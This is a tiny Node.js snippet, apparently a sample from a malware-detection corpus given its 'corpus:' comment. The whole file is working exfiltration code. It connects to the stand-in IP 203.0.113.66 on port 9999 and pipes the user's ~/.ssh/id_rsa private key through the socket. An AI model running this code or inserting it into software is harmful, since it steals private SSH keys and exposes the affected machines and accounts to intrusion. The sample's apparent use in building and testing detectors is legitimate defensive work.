// corpus: net.connect streaming ~/.ssh/id_rsa to an IP literal
const fs = require('fs');
const net = require('net');
const os = require('os');

const sock = net.connect({ host: '203.0.113.66', port: 9999 }, () => {
  fs.createReadStream(`${os.homedir()}/.ssh/id_rsa`).on('error', () => sock.end()).pipe(sock);
});
